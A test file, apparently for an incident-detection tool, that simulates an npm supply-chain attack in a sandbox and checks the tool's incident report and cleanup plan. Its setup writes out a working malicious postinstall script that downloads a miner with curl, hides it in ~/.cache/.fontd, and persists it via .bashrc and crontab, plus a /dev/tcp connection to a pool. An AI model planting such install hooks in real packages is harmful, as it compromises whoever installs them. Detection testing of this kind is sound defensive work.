/** (d) Somebody who deploys runs `npm ci`; the script of one package brings a miner and plants it in their cron table and shell. */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { lacksScenario, office, registry } from '../scenario-host.ts';
import { reported } from './report.ts';
import { admin, adminWord, depot, greeting, ordinaryLoad, pool, prove, type Scene, serveFiles, servePool, serveSsh, ssh, startScene } from './scene.ts';

const app = '/srv/shop', home = `/home/${admin}`, place = `${home}/.cache/.fontd`;
const bad = 'trim-both-ends', good = 'even-steps';
const job = '5 4 * * 0 /usr/local/bin/nightly-report';

/** A package as a registry hands it out: its description and its tarball. What its lock file says of it. */
function publish(folder: string, name: string, files: Record<string, string>): { resolved: string; integrity: string } {
  const packed = mkdtempSync(join(tmpdir(), 'moat-pack-'));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(packed, 'package', path)), { recursive: true });
    writeFileSync(join(packed, 'package', path), text);
  }
  const tarball = `${name}-1.0.0.tgz`;
  mkdirSync(join(folder, 'tarballs'), { recursive: true });
  execFileSync('tar', ['-czf', join(folder, 'tarballs', tarball), '-C', packed, 'package']);
  rmSync(packed, { recursive: true });
  const resolved = `http://${registry}/tarballs/${tarball}`, integrity = `sha512-${createHash('sha512').update(readFileSync(join(folder, 'tarballs', tarball))).digest('base64')}`;
  const version = { ...JSON.parse(files['package.json']!) as object, dist: { tarball: resolved, integrity } };
  writeFileSync(join(folder, name), JSON.stringify({ name, 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } }));
  return { resolved, integrity };
}

describe.skipIf(lacksScenario(['/usr/bin/npm', '/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(d) npm install of a package whose script mines', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-')), shelf = mkdtempSync(join(tmpdir(), 'moat-registry-'));
  let scene: Scene;

  beforeAll(async () => {
    const script = [
      "const { execFileSync, execSync, spawn } = require('node:child_process'), fs = require('node:fs'), { homedir } = require('node:os');",
      "const place = homedir() + '/.cache/.fontd', run = place + '/fontd ' + place + '/job';",
      'fs.mkdirSync(place, { recursive: true });',
      `for (const name of ['fontd', 'job']) execFileSync('curl', ['-fsS', 'http://${depot}/' + name, '-o', place + '/' + name]);`,
      "fs.chmodSync(place + '/fontd', 0o755);",
      "fs.appendFileSync(homedir() + '/.bashrc', '(' + run + ' > /dev/null 2>&1 &)\\n');",
      "execSync('(crontab -l; echo \"*/30 * * * * ' + run + '\") | crontab -');",
      "spawn(place + '/fontd', [place + '/job'], { detached: true, stdio: 'ignore' }).unref();", '',
    ].join('\n');
    const locks = {
      [good]: publish(shelf, good, { 'package.json': JSON.stringify({ name: good, version: '1.0.0', scripts: { postinstall: 'node build.js' } }), 'index.js': 'module.exports = (n) => n * 2;\n', 'build.js': "require('node:fs').writeFileSync('table.json', JSON.stringify([0, 2, 4]));\n" }),
      [bad]: publish(shelf, bad, { 'package.json': JSON.stringify({ name: bad, version: '1.0.0', scripts: { postinstall: 'node lib/setup.js' } }), 'index.js': 'module.exports = (text) => text.trim();\n', 'lib/setup.js': script }),
    };
    scene = await startScene({ async ready(host) {
      await serveSsh(host, 'not known to anybody 7');
      await ordinaryLoad(host);
      const [uid, gid] = [Number(await host.must('id', '-u', admin)), Number(await host.must('id', '-g', admin))];
      const dependencies = { [good]: '1.0.0', [bad]: '1.0.0' };
      const own = { uid, gid };
      host.plant(`${app}/package.json`, JSON.stringify({ name: 'shop', version: '1.0.0', dependencies }), own);
      host.plant(`${app}/package-lock.json`, JSON.stringify({ name: 'shop', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'shop', version: '1.0.0', dependencies }, ...Object.fromEntries(Object.entries(locks).map(([name, lock]) => [`node_modules/${name}`, { version: '1.0.0', ...lock, hasInstallScript: true }])) } }), own);
      host.plant(`${app}/.npmrc`, `registry=http://${registry}/\n`, own);
      await host.must('chown', `${uid}:${gid}`, app);
      await host.must('sh', '-c', 'printf "%s\\n" "$1" | crontab -u "$2" -', 'sh', job, admin);
    } });
    writeFileSync(join(kit, 'job'), `exec 3<>/dev/tcp/${pool}/3333\nprintf '%s\\n' '${greeting}' >&3\nwhile read -r line <&3; do :; done\n`);
    copyFileSync('/bin/bash', join(kit, 'fontd'));
    await serveFiles(scene.host, kit);
    await serveFiles(scene.host, shelf, registry);
    await servePool(scene.host);
  });
  afterAll(async () => {
    await scene?.end();
    for (const folder of [kit, shelf]) rmSync(folder, { recursive: true, force: true });
  });

  it('is one incident that begins with the script of the package, and ends with its plan', async () => {
    const { host } = scene;
    const installed = await ssh(host, office, admin, adminWord, `cd ${app} && npm ci --no-fund`);
    expect(installed).toMatchObject({ code: 0 });
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'package', service: 'npm', package: bad, user: admin }, level: 'critical', grade: 3,
      steps: [
        'freeze-tree process', `block-address ${depot}`, `block-address ${pool}`,
        `remove-line /var/spool/cron/crontabs/${admin}`, `remove-line ${home}/.bashrc`,
        ...['package.json', 'index.js', 'lib/setup.js'].map((file) => `quarantine-file ${app}/node_modules/${bad}/${file}`),
        `quarantine-file ${place}/fontd`, `quarantine-file ${place}/job`, 'kill-tree process',
      ],
      checks: ['cron', 'systemd', 'ssh-keys', 'login-scripts', 'odd-file'], running: /\.fontd/,
      // What was asked for stays: the other package, and what npm itself keeps. The plan says that a person takes the bad one out of it.
      stays: [/^\/srv\/shop\/node_modules$/, /^\/srv\/shop\/node_modules\/(?:even-steps|\.package-lock\.json)(?:\/|$)/, /^\/home\/harbour\/\.npm(?:\/|$)/, /^\/var\/spool\/cron\/crontabs\/harbour$/],
      after() {
        expect(readFileSync(join(host.root, 'var/spool/cron/crontabs', admin), 'utf8').split('\n').filter((line) => line !== '' && !line.startsWith('#'))).toEqual([job]);
        expect(readdirSync(join(host.root, app, 'node_modules', good))).toContain('table.json');
      },
    });
    expect(plan.entry?.address).toBeUndefined();
    expect(incident.title.en).not.toContain(office);
    // Who deployed is no intruder, and what only npm can undo is said.
    expect(plan.left_alone.find(({ node }) => node === `package:${app}/node_modules/${bad}`)?.why.en).toContain('lock files');
    reported(scene, incident, plan, { says: [bad, `${place}/fontd`, `/var/spool/cron/crontabs/${admin}`, depot, pool] });
  });
});
